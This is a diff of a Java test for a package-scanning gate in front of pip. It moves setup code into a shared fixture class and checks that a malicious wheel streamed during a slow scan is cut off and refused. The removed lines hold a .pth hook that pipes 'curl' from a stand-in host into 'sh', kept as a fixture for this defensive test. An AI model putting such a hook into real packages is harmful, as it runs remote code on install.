@@ -1,11 +1,9 @@
 package dev.kingsnake.gate;
 
 import com.fasterxml.jackson.databind.JsonNode;
-import com.fasterxml.jackson.databind.ObjectMapper;
 import dev.kingsnake.Confidence;
 import dev.kingsnake.Scanner;
 import dev.kingsnake.Severity;
-import dev.kingsnake.index.IndexClient;
 import dev.kingsnake.spi.FindingSink;
 import dev.kingsnake.spi.Rule;
 import dev.kingsnake.spi.RuleContext;
@@ -22,7 +20,6 @@ import java.net.http.HttpResponse;
 import java.nio.file.Files;
 import java.nio.file.Path;
 import java.time.Duration;
-import java.util.ArrayList;
 import java.util.List;
 import java.util.Map;
 import java.util.Optional;
@@ -32,17 +29,12 @@ import static org.junit.jupiter.api.Assertions.assertArrayEquals;
 import static org.junit.jupiter.api.Assertions.assertEquals;
 import static org.junit.jupiter.api.Assertions.assertNotEquals;
 import static org.junit.jupiter.api.Assertions.assertTrue;
-import static org.junit.jupiter.api.Assumptions.assumeTrue;
 
 /**
  * A scan that outlasts the client's read timeout: the gate streams the file while it scans, holding back the end
  * until the verdict. pip runs with a 3 s timeout against scans made to take 8 s.
  */
 class GateStreamingTest {
-    private static final ObjectMapper JSON = new ObjectMapper();
-    private static final String PTH_HOOK = "import os, subprocess; subprocess.Popen([\"sh\", \"-c\", "
-            + "\"curl -s http://example.invalid/b.sh | sh\"]) if not os.environ.get(\"DEMO_OFF\") else None\n";
-
     /** Takes 8 s over any package holding a file named {@code slow_marker.py}; reports nothing. */
     static final class SlowRule implements Rule {
         @Override
@@ -73,44 +65,27 @@ class GateStreamingTest {
     @BeforeAll
     static void start() throws Exception {
         dir = Files.createTempDirectory("kingsnake-gate-stream");
-        Optional<Pip> found = Pip.find(dir);
-        assumeTrue(found.isPresent(), "no pip on this machine (python3 -m pip): the gate's pip tests are skipped");
-        pip = found.get();
-        List<Rule> rules = new ArrayList<>(Scanner.loadRules().stream()
-                .filter(r -> !r.info().id().startsWith("KS-TEST")).toList());
+        pip = GateFixtures.pipOrSkip(dir);
+        List<Rule> rules = GateFixtures.shippedRules();
         rules.add(new SlowRule());
         upstream = new TestIndex().root("public", false, Duration.ZERO);
-        auditFile = dir.resolve("audit.jsonl");
-        gate = GateServer.start(new GateServer.Config("127.0.0.1", 0, upstream.simple("public"), Optional.empty(),
-                GatePolicy.defaults(), "jdbc:sqlite:" + dir.resolve("v.db"), dir.resolve("cache"),
-                Files.newBufferedWriter(auditFile), Scanner.builder().rules(rules).build(), "test-rules",
-                new IndexClient.Settings(Duration.ofSeconds(2), Duration.ofSeconds(10), 1, Duration.ofMillis(50),
-                        1L << 30), 2, Duration.ofSeconds(60), Duration.ofSeconds(5), Duration.ofSeconds(1)));
+        auditFile = GateFixtures.auditFile(dir, "stream");
+        gate = GateServer.start(GateFixtures.config(dir, "stream", upstream.simple("public"), Optional.empty(),
+                GatePolicy.defaults(), Scanner.builder().rules(rules).build(), Duration.ofSeconds(10),
+                Duration.ofSeconds(1)));
     }
 
     @AfterAll
     static void stop() throws Exception {
-        if (gate != null) {
-            gate.close();
-        }
-        if (upstream != null) {
-            upstream.close();
-        }
+        GateFixtures.stop(gate, upstream);
     }
 
     private static String index() {
-        return "http://127.0.0.1:" + gate.port() + "/simple/";
+        return GateFixtures.index(gate);
     }
 
     private static List<JsonNode> audit(String filename) throws Exception {
-        List<JsonNode> out = new ArrayList<>();
-        for (String line : Files.readAllLines(auditFile)) {
-            JsonNode n = JSON.readTree(line);
-            if (n.path("file").asText().equals(filename)) {
-                out.add(n);
-            }
-        }
-        return out;
+        return GateFixtures.audit(auditFile, filename);
     }
 
     @Test
@@ -134,7 +109,7 @@ class GateStreamingTest {
     void aMaliciousFileStreamedWhileScannedIsCutThenRefusedWithTheReason() throws Exception {
         String name = TestIndex.wheelName("slow-bad", "1.0");
         byte[] bytes = TestIndex.wheel("slow-bad", "1.0", Map.of("slow_bad/slow_marker.py", "X = 1\n",
-                "slow_bad_init.pth", PTH_HOOK));
+                "slow_bad_init.pth", GateFixtures.PTH_HOOK));
         upstream.add("public", "slow-bad", name, bytes, Duration.ofDays(30));
         Path out = Files.createDirectories(dir.resolve("bad"));
         Pip.Run cut = pip.run(index(), "download", "--no-deps", "--timeout", "3", "-d", out.toString(), "slow-bad==1.0");
